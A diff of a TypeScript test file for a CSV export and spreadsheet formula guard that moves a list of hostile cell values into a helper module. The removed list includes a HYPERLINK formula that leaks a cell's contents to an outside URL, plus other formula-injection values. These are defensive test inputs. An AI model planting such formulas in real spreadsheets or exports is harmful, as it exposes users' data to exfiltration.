@@ -5,33 +5,22 @@ import fs from 'node:fs';
 import path from 'node:path';
 import Papa from 'papaparse';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { z } from 'zod';
-import { indexContent } from '../../src/domain/contentIndex.ts';
 import { rowsToCsv, toCsv } from '../../src/domain/opendata/csv.ts';
-import { datasets, rowsOf } from '../../src/domain/opendata/datasets.ts';
 import { guardCell } from '../../src/domain/opendata/formulaGuard.ts';
 import { rowSchemas } from '../../src/domain/opendata/rows.ts';
-import { councilMeetingSchema } from '../../src/domain/schemas/index.ts';
 import { answersCsv, countsCsv } from '../../src/receiver/export.ts';
 import { validAnswers } from '../domain/questionnaire/fixtures.ts';
-import { graphOf, realDir } from '../domain/results/content.ts';
-import { yamlEntries } from '../helpers/content.ts';
 import { convertToFods, hasLibreOffice, noLibreOffice, readFods, type SheetCell } from '../helpers/libreoffice.ts';
+import { datasetRowsOf, hostile, realSite } from './content.ts';
 
 // UTF-8, comma, double quote, from line 1, en-US, then: quoted fields not forced to text,
 // special numbers (dates) not detected, and — token 13 — formulas EVALUATED, the risky setting.
 const CSV_IMPORT = 'CSV:44,34,76,1,,1033,false,false,false,false,false,false,true';
 
-const hostile = [
-  '=HYPERLINK("http://example.org/?leak="&A1,"Подробнее")', '=1+1', '+7 (495) 000-00-00', '-о реализации планов', '- о перечне организаций',
-  '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=1+1", "'цитата'", 'a=b', 'Строка с "кавычками",\r\nи переносом', '-3', '-0.5',
-];
 
 function writtenTables(): Record<string, string> {
-  const graph = { ...graphOf(realDir), councilMeetings: yamlEntries(realDir, 'council-meetings', councilMeetingSchema) };
-  const site = indexContent(graph);
   const tables: Record<string, string> = {};
-  for (const { id } of datasets) tables[`${id}.csv`] = rowsToCsv(rowSchemas[id], z.array(rowSchemas[id]).parse(rowsOf(id, site, '2025-06-01')));
+  for (const { id, rows } of datasetRowsOf(realSite())) tables[`${id}.csv`] = rowsToCsv(rowSchemas[id], rows);
   const answers = hostile.map((proposal, i) => ({
     id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, organization: 'muzey-primer', questionnaire: '675н-2018', sphere: 'culture' as const,
     receivedOn: '2025-03-01', answers: validAnswers('culture'), proposal, proposalPublishable: false,
